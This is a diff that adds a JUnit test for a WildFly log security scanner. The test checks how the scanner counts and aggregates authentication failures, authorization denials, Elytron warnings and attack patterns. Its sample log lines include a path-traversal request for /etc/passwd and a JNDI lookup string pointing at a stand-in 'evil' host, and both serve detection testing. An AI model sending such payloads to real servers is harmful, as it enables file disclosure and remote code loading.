@@ -0,0 +1,55 @@
+/*
+ * Copyright The WildFly Authors
+ * SPDX-License-Identifier: Apache-2.0
+ */
+package org.wildfly.mcp;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import java.time.Duration;
+import org.junit.jupiter.api.Test;
+
+public class SecurityScannerTest {
+
+    @Test
+    public void testScan() {
+        SecurityScanner scanner = new SecurityScanner(Duration.ofMinutes(5), 100);
+        for (int i = 0; i < 3; i++) {
+            scanner.accept("2025-06-23 10:0" + i + ":00,000 DEBUG [org.wildfly.security] (default task-1) Authentication failed for user 'admin' from 10.0.0.12");
+        }
+        scanner.accept("2025-06-23 10:06:00,000 DEBUG [org.wildfly.security] (default task-1) Authentication failed for user 'admin' from 10.0.0.12");
+        scanner.accept("2025-06-23 10:07:00,000 ERROR [io.undertow.request] (default task-2) UT005023: Exception handling request to /app/../../etc/passwd");
+        scanner.accept("java.lang.SecurityException: ${jndi:ldap://evil}");
+        scanner.accept("2025-06-23 10:08:00,000 INFO  [org.jboss.as] (main) WFLYSRV0025: WildFly started");
+        assertEquals(7, scanner.getLineCount());
+        assertEquals(4, scanner.getHits("authentication-failure"));
+        assertEquals(1, scanner.getHits("path-traversal"));
+        assertEquals(1, scanner.getHits("injection"));
+        assertEquals(1, scanner.getHits("authorization-denied"));
+        String report = scanner.format(10);
+        // The hits of the first window are aggregated.
+        assertTrue(report.contains("3\tauthentication-failure\t10.0.0.12\tadmin\t2025-06-23T10:00\t2025-06-23T10:02\t"), report);
+        assertTrue(report.contains("1\tauthentication-failure\t10.0.0.12\tadmin\t2025-06-23T10:06\t2025-06-23T10:06\t"), report);
+        // The continuation line gets the time of its record.
+        assertTrue(report.contains("1\tinjection\t-\t-\t2025-06-23T10:07\t2025-06-23T10:07\tjava.lang.SecurityException"), report);
+    }
+
+    @Test
+    public void testRecords() {
+        SecurityScanner scanner = new SecurityScanner(Duration.ofMinutes(5), 100);
+        // A stack trace is a single hit.
+        scanner.accept("2025-06-23 10:00:00,000 ERROR [org.jboss.as.ejb3] (default task-1) Invocation failed: javax.ejb.EJBAccessException: not authorized");
+        scanner.accept("javax.ejb.EJBAccessException: not authorized");
+        scanner.accept("Caused by: java.lang.SecurityException: not authorized");
+        scanner.accept("2025-06-23 10:00:01,000 ERROR [org.jboss.as.ejb3] (default task-1) Invocation failed: not authorized");
+        assertEquals(2, scanner.getHits("authorization-denied"));
+        // The Elytron warnings and errors are hits, whatever their message.
+        scanner.accept("2025-06-23 10:00:02,000 WARN  [org.wildfly.security.http.oidc] (default task-2) ELY23013: Failed verification of token");
+        scanner.accept("2025-06-23 10:00:03,000 ERROR [org.jboss.as.controller] (main) ELY00014: Unable to load the key store");
+        scanner.accept("2025-06-23 10:00:04,000 DEBUG [org.wildfly.security] (default task-3) Role mapping: principal [admin] -> roles [Admin]");
+        scanner.accept("2025-06-23 10:00:05,000 INFO  [org.wildfly.security] (main) ELY00001: WildFly Elytron version 2.6.0.Final");
+        assertEquals(2, scanner.getHits("elytron"));
+        assertEquals(8, scanner.getLineCount());
+    }
+}